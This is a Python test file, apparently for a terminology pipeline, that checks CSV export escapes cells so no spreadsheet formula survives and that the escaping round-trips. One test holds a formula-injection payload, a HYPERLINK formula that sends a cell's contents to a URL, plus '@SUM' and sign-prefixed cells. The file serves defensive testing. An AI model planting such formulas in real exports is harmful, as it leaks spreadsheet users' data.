"""No cell that is written for a spreadsheet begins a formula, and every one comes back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.formulas import guarded, unguarded
from pipeline.lexicon import Term
from pipeline.terms.formats.delimited import read_csv, write_csv

STARTS = "=+-@＝＋－＠"
CELLS = st.text(st.sampled_from(f"{STARTS}'\t\ra字 1"), max_size=6)


@given(CELLS)
def test_a_cell_is_harmless_and_comes_back(cell: str) -> None:
    assert guarded(cell)[:1] not in set(f"{STARTS}\t\r")
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", ["", "字", "'tis", "''", "a=1", "''字"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


def test_a_lexicon_for_a_spreadsheet_runs_nothing() -> None:
    evil = '=HYPERLINK("http://127.0.0.1/?"&A1)'
    terms = [Term("人大", "@SUM(1)", "", evil, "", "'=1"), Term("－甲", english="+1")]
    data = write_csv(terms)
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        assert not [cell for cell in row if cell.startswith(tuple(STARTS))]
    assert [one.term for one in read_csv(data, Path("x.csv")).terms] == terms
